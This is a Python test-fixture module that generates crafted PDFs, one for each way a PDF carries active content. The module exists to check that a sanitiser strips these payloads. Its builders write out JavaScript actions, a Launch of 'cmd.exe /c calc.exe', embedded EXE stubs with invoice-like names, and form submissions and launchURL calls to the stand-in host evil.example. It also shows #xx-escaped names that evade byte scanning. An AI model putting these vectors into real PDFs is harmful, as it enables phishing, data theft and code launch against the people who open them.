"""A corpus of crafted PDFs, one per way a PDF can carry active content (issue 16 F1).

Every file has one page with a visible line of text (`VISIBLE % key`), so a test can show
that neutralising removed the payload and kept what a person reads. `build(key)` makes the
bytes; `VECTORS` lists the keys. The files are made with pikepdf (and one by hand, for a
name written with `#xx` escapes that a naive byte search would miss); nothing is stored in
the repository.
"""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

VISIBLE = "Sichtbarer Text %s"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"


def _js(code: str = "app.alert('pwned');") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _base(key: str, pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for n in range(pages):
        text = VISIBLE % key + (f" Seite {n + 1}" if pages > 1 else "")
        content = f"BT /F1 12 Tf 40 700 Td ({text}) Tj ET".encode()
        page = pikepdf.Page(
            Dictionary(
                Type=Name.Page,
                MediaBox=Array([0, 0, 595, 842]),
                Resources=Dictionary(Font=Dictionary(F1=font)),
                Contents=pdf.make_stream(content),
            )
        )
        pdf.pages.append(page)
    return pdf


def _annot(pdf: pikepdf.Pdf, **entries) -> Dictionary:
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Rect=Array([40, 690, 300, 720]), Border=Array([0, 0, 0]), **entries
        )
    )
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = pdf.make_indirect(Array())
    page.Annots.append(annot)
    return annot


def _filespec(pdf: pikepdf.Pdf, name: str, data: bytes) -> Dictionary:
    stream = pdf.make_stream(data)
    stream.Type = Name.EmbeddedFile
    stream.Subtype = Name("/application#2Fx-msdownload")
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
    )


def _openaction_js(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(_js())


def _catalog_aa(pdf):
    pdf.Root.AA = Dictionary(WC=_js(), DP=_js("this.submitForm('http://evil.example/')"))


def _page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=_js(), C=_js())


def _names_javascript(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())]))
    )


def _link_a_js(pdf):
    _annot(pdf, Subtype=Name.Link, A=_js())


def _link_aa_js(pdf):
    # The gap in the old check: the annotation's *additional* actions (mouse enter).
    _annot(pdf, Subtype=Name.Link, AA=Dictionary(E=_js(), X=_js()))


def _next_chain(pdf):
    # A harmless GoTo that runs JavaScript next.
    goto = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([pdf.make_indirect(_js())])
    )
    _annot(pdf, Subtype=Name.Link, A=goto)
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_js())


def _outline_js(pdf):
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    first = pdf.make_indirect(Dictionary(Title=String("Lesezeichen"), Parent=outlines, A=_js()))
    second = pdf.make_indirect(
        Dictionary(
            Title=String("Seite 1"),
            Parent=outlines,
            Prev=first,
            Dest=Array([pdf.pages[0].obj, Name.Fit]),
        )
    )
    first.Next = second
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines


def _acroform_field_aa(pdf):
    field = _annot(
        pdf,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("betrag"),
        V=String("100"),
        AA=Dictionary(
            K=_js("event.rc = app.launchURL('http://evil.example/');"), F=_js(), V=_js(), C=_js()
        ),
    )
    field.P = pdf.pages[0].obj
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/Helv 0 Tf 0 g"))


def _xfa(pdf):
    template = pdf.make_stream(
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.alert('xfa');</script></event></subform></template>"
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Array([String("template"), template]))
    pdf.Root.NeedsRendering = True


def _javascript_uri(pdf):
    _annot(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(" JaVaScRiPt:app.alert(1)")))
    _annot(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///C:/Windows/calc.exe"))
    )


def _file_attachment_exe(pdf):
    _annot(
        pdf,
        Subtype=Name.FileAttachment,
        FS=_filespec(pdf, "rechnung.exe", EXE),
        Name=Name.PushPin,
        Contents=String("Anlage"),
    )


def _embedded_files_exe(pdf):
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(
            Names=Array([String("setup.exe"), _filespec(pdf, "setup.exe", EXE)])
        )
    )


def _launch(pdf):
    _annot(
        pdf,
        Subtype=Name.Link,
        A=Dictionary(
            S=Name.Launch,
            F=String("cmd.exe"),
            Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
        ),
    )


def _submitform(pdf):
    _annot(
        pdf,
        Subtype=Name.Link,
        A=Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect")),
            Flags=4,
        ),
    )


def _richmedia(pdf):
    asset = _filespec(pdf, "player.swf", b"FWS\x0a" + b"\x00" * 32)
    _annot(
        pdf,
        Subtype=Name.RichMedia,
        RichMediaContent=Dictionary(
            Assets=Dictionary(Names=Array([String("player.swf"), asset])),
            Configurations=Array(),
        ),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )


def _screen_rendition(pdf):
    clip = Dictionary(S=Name.MCD, D=_filespec(pdf, "film.exe", EXE))
    _annot(
        pdf,
        Subtype=Name.Screen,
        A=Dictionary(
            S=Name.Rendition, OP=0, JS=String("app.alert(2)"), R=Dictionary(S=Name.MR, C=clip)
        ),
    )


def _gotor_importdata(pdf):
    _annot(
        pdf,
        Subtype=Name.Link,
        A=Dictionary(
            S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])
        ),
    )
    _annot(pdf, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("daten.fdf")))


BUILDERS = {
    "openaction_js": _openaction_js,
    "catalog_aa": _catalog_aa,
    "page_aa": _page_aa,
    "names_javascript": _names_javascript,
    "link_a_js": _link_a_js,
    "link_aa_js": _link_aa_js,
    "next_chain": _next_chain,
    "outline_js": _outline_js,
    "acroform_field_aa": _acroform_field_aa,
    "xfa": _xfa,
    "javascript_uri": _javascript_uri,
    "file_attachment_exe": _file_attachment_exe,
    "embedded_files_exe": _embedded_files_exe,
    "launch": _launch,
    "submitform": _submitform,
    "richmedia": _richmedia,
    "screen_rendition": _screen_rendition,
    "gotor_importdata": _gotor_importdata,
}
VECTORS = [*BUILDERS, "escaped_names"]


def build(key: str) -> bytes:
    """The crafted PDF for `key` (one of VECTORS)."""
    if key == "escaped_names":
        return _escaped_names()
    pdf = _base(key)
    BUILDERS[key](pdf)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def clean(key: str = "sauber", pages: int = 1) -> bytes:
    """A plain PDF with harmless links: a GoTo within the file and an https link."""
    pdf = _base(key, pages)
    _annot(
        pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.kreis-harz.de/"))
    )
    _annot(pdf, Subtype=Name.Link, Dest=Array([pdf.pages[0].obj, Name.Fit]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _escaped_names() -> bytes:
    """Written by hand: `/OpenAction` and `/JavaScript` spelled with #xx escapes (legal PDF,
    the same names to every reader), which a search for the plain bytes does not see."""
    text = (VISIBLE % "escaped_names").encode()
    content = b"BT /F1 12 Tf 40 700 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 6 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /S /Java#53cript /J#53 (app.alert\\('escaped'\\)) >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)
